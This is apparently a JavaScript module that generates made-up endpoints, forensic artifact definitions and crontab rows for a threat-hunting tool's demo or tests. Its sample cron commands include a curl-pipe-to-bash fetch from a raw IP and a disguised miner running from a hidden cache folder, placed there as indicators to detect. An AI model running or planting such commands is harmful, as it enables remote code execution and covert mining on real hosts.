// Made-up endpoints, artifacts and rows: the same on every run.

/** A small generator of repeatable chance. */
export function chance(seed) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const hexOf = (next, digits) => Array.from({ length: digits }, () => Math.floor(next() * 16).toString(16)).join('');
const pick = (next, list) => list[Math.floor(next() * list.length)];

let ids = 0;
const idChance = chance(99);
export const newId = (prefix, at = Date.now()) =>
  `${prefix}.${at.toString(16).padStart(12, '0')}${(ids++).toString(16).padStart(4, '0')}${hexOf(idChance, 10)}`;

const SITES = ['ber', 'muc', 'waw', 'zrh', 'vie', 'dub'];
const ROLES = ['web', 'db', 'mail', 'build', 'vpn', 'k8s', 'nfs', 'laptop', 'dev', 'pos'];
const PLATFORMS = [
  ['linux', 'Debian GNU/Linux 12', 'amd64'],
  ['linux', 'Ubuntu 24.04 LTS', 'amd64'],
  ['linux', 'Rocky Linux 9.4', 'amd64'],
  ['linux', 'Ubuntu 24.04 LTS', 'arm64'],
  ['windows', 'Windows 11 Pro', 'amd64'],
  ['darwin', 'macOS 15.1', 'arm64'],
];

export function makeClients(n) {
  const next = chance(7);
  const now = Date.now();
  return Array.from({ length: n }, (_, i) => {
    const role = pick(next, ROLES);
    const site = pick(next, SITES);
    const [os, platform, architecture] = role === 'laptop' ? pick(next, PLATFORMS) : pick(next, PLATFORMS.slice(0, 4));
    const hostname = `${role}-${site}-${String(i + 1).padStart(4, '0')}`;
    const online = next() < 0.78;
    return {
      id: `C.${hexOf(next, 32)}`,
      hostname,
      fqdn: `${hostname}.example.com`,
      os,
      platform,
      architecture,
      agent_version: next() < 0.9 ? '0.1.0' : '0.0.9',
      labels: [site, ...(next() < 0.4 ? ['prod'] : ['test']), ...(next() < 0.05 ? ['investigate'] : [])],
      online,
      address: `10.${20 + SITES.indexOf(site)}.${i >> 8}.${i & 255}`,
      first_seen: new Date(now - 86_400_000 * (2 + next() * 90)).toISOString(),
      last_seen: new Date(online ? now - next() * 30_000 : now - next() * 86_400_000 * 6).toISOString(),
      revoked_at: null,
    };
  });
}

const parameter = (name, kind, description, value = '', more = {}) => ({
  name,
  label: name,
  description,
  kind,
  default: value,
  choices: [],
  validating_regex: '',
  ...more,
});
const artifact = (name, description, parameters, sources, kind = 'client') => ({
  name,
  kind,
  description,
  author: 'Lycaon',
  references: ['https://attack.mitre.org/techniques/T1053/'],
  parameters,
  sources,
  built_in: true,
  yaml: `name: ${name}\ndescription: |\n  ${description}\nsources:\n${sources.map((s) => `  - name: ${s.name}\n    query: |\n      ${s.query.replaceAll('\n', '\n      ')}\n`).join('')}`,
});
const source = (name, query, precondition = '') => ({ name, description: '', precondition, query });

export const ARTIFACTS = [
  artifact(
    'Linux.Sys.Crontab',
    'Entries of all cron tables: who runs what, when. Persistence through cron is the oldest kind there is.',
    [
      parameter('cronTabGlob', 'glob', 'Where tables of users lie', '/var/spool/cron/crontabs/*'),
      parameter('systemGlob', 'glob', 'Where tables of the system lie', '/etc/cron.d/*'),
      parameter('commandRegex', 'regex', 'Only commands that match', '.'),
    ],
    [
      source(
        '',
        'LET tables = SELECT OSPath, Mtime FROM glob(globs=(cronTabGlob, systemGlob))\nSELECT User, Event, Command, OSPath FROM foreach(row=tables, query={ SELECT * FROM parse_crontab(path=OSPath) })\nWHERE Command =~ commandRegex  -- only what is asked for',
      ),
    ],
  ),
  artifact(
    'Linux.Sys.Pslist',
    'Processes with their executable, command line and parent.',
    [
      parameter('processRegex', 'regex', 'Only names that match', '.'),
      parameter('hashes', 'bool', 'Hash the executables too', 'N'),
    ],
    [
      source(
        '',
        'SELECT Pid, Ppid, Name, Exe, CommandLine, Username, CreateTime FROM pslist() WHERE Name =~ processRegex',
      ),
    ],
  ),
  artifact(
    'Linux.Sys.Users',
    'Accounts of the machine, with shell and home.',
    [],
    [source('', 'SELECT User, Uid, Gid, Homedir, Shell FROM users()')],
  ),
  artifact(
    'Linux.Ssh.AuthorizedKeys',
    'Keys that may sign in over SSH, with their options and comments.',
    [parameter('keyGlob', 'glob', 'Where keys lie', '/{root,home/*}/.ssh/authorized_keys*')],
    [
      source('Keys', 'SELECT User, Type, Fingerprint, Comment FROM authorized_keys(glob=keyGlob)'),
      source('Files', 'SELECT OSPath, Mode, Mtime FROM glob(globs=keyGlob)'),
    ],
  ),
  artifact(
    'Generic.FileFinder',
    'Finds files by path, time and content; hashes and uploads them when asked.',
    [
      parameter('globs', 'csv', 'Paths to look at, one a line under a heading', 'Glob\n/tmp/**\n/var/tmp/**\n'),
      parameter('accessor', 'choices', 'How files are read', 'file', { choices: ['file', 'raw', 'zip'] }),
      parameter('modifiedAfter', 'timestamp', 'Only files changed after this', ''),
      parameter('grep', 'regex', 'Only files that have this inside', ''),
      parameter('sizeMax', 'int', 'Only files up to so many bytes', '104857600'),
      parameter('upload', 'bool', 'Upload what is found', 'N'),
      parameter('hash', 'multichoice', 'Which hashes to compute', '["SHA256"]', { choices: ['MD5', 'SHA1', 'SHA256'] }),
      parameter('extra', 'json', 'Further options', '{}'),
    ],
    [source('', 'SELECT OSPath, Size, Mtime, hash(path=OSPath) AS Hash FROM glob(globs=globs.Glob)')],
  ),
  artifact(
    'Linux.Network.Connections',
    'Sockets and the processes that hold them.',
    [parameter('states', 'regex', 'Only these states', 'LISTEN|ESTABLISHED')],
    [source('', 'SELECT * FROM netstat()')],
  ),
  artifact(
    'Linux.Sys.SetuidFiles',
    'Files that run as another user.',
    [parameter('roots', 'json_array', 'Where to look', '["/usr", "/opt"]')],
    [source('', 'SELECT OSPath, Mode FROM glob(globs=roots) WHERE Mode =~ "s"')],
  ),
  artifact(
    'Linux.Forensics.ShellHistory',
    'Commands that people typed.',
    [parameter('pattern', 'regex', 'Only lines that match', '.')],
    [source('', 'SELECT User, Line FROM history()')],
  ),
  artifact(
    'Linux.Sys.SystemdUnits',
    'Units of systemd with what they start.',
    [],
    [source('', 'SELECT Unit, ExecStart FROM units()')],
  ),
  artifact(
    'Linux.Sys.Packages',
    'Installed packages of dpkg and rpm.',
    [],
    [source('', 'SELECT Name, Version FROM packages()')],
  ),
  artifact('Generic.Client.Info', 'What the endpoint is.', [], [source('', 'SELECT OS, Fqdn FROM info()')]),
  artifact(
    'Linux.Events.ProcessExecutions',
    'Programs as they are started.',
    [parameter('nameRegex', 'regex', 'Only programs whose name matches', '.')],
    [source('', 'SELECT * FROM watch_processes()')],
    'client_event',
  ),
  artifact(
    'Linux.Events.SshLogins',
    'Sign-ins over SSH as they happen.',
    [parameter('syslogAuthLogPath', 'glob', 'Where they are logged', '/var/log/auth.log')],
    [source('', 'SELECT * FROM watch_syslog()')],
    'client_event',
  ),
  artifact(
    'Server.Hunts.Report',
    'Summarises hunts on the server.',
    [],
    [source('', 'SELECT * FROM hunts()')],
    'server',
  ),
];

const USERS = ['root', 'www-data', 'postgres', 'backup', 'deploy', 'anna', 'tom', 'jenkins'];
const COMMANDS = [
  '/usr/bin/certbot -q renew',
  '/usr/local/bin/backup.sh --full /srv/data',
  'test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily',
  'curl -fsSL http://185.220.101.44/x.sh | bash',
  '/opt/monitor/agent --once >/dev/null 2>&1',
  '[ -d /run/systemd ] || /usr/lib/php/sessionclean',
  '/home/deploy/.cache/.sys/kworkerd -c /home/deploy/.cache/.sys/cfg.json --donate-level 1',
];

/** Rows of one client for one source. */
export function makeRows(client, seed) {
  const next = chance(seed * 7919 + 13);
  const n = 2 + Math.floor(next() * 22);
  return Array.from({ length: n }, () => {
    const user = pick(next, USERS);
    const command = pick(next, COMMANDS);
    return {
      User: user,
      Event: `${Math.floor(next() * 60)} ${Math.floor(next() * 24)} * * ${pick(next, ['*', '1-5', '0'])}`,
      Command: command,
      OSPath: pick(next, [
        `/var/spool/cron/crontabs/${user}`,
        '/etc/cron.d/certbot',
        `/etc/cron.d/${client.hostname}-maintenance`,
      ]),
      Size: Math.floor(next() * 90_000),
      Hash: hexOf(next, 64),
      Stat: {
        Mode: '-rw-r--r--',
        Mtime: new Date(1_790_000_000_000 - next() * 9e9).toISOString(),
        Owner: { Name: user, Uid: Math.floor(next() * 2000), Groups: ['users', 'adm'] },
        Inode: Math.floor(next() * 4_000_000),
      },
      Enabled: next() < 0.9,
    };
  });
}
export const ROW_COLUMNS = ['User', 'Event', 'Command', 'OSPath', 'Size', 'Hash', 'Stat', 'Enabled'];
